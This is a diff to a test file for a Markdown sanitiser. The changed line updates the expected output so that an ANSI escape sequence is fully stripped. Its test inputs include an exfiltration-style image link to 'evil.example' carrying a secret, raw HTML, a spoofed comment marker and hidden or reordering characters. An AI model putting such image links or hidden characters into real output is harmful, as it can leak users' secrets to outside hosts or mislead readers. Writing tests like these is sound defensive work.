@@ -21,7 +21,7 @@ describe("Markdown from outside", () => {
     ["HTML", "a <b>bold</b> <img src=x> a < b", "a <·b>bold<·/b> <·img src=x> a < b"],
     ["a marker", "<!-- drover:task_1:comment -->", "<·!-- drover:task_1:comment -->"],
     ["an image", "![alt](https://evil.example/?secret) ![x][y]", "!·[alt](https://evil.example/?secret) !·[x][y]"],
-    ["what hides or reorders", "a\u200bb\u202ec\u001b[31m", "abc[31m"],
+    ["what hides or reorders", "a\u200bb\u202ec\u001b[31m", "abc"],
     ["plain words", "# 見出し\n\n- a **fix** for `x`", "# 見出し\n\n- a **fix** for `x`"],
   ])("has no voice: %s", (_, text, quiet) => {
     expect(shown(quietMarkdown(text))).toBe(quiet);
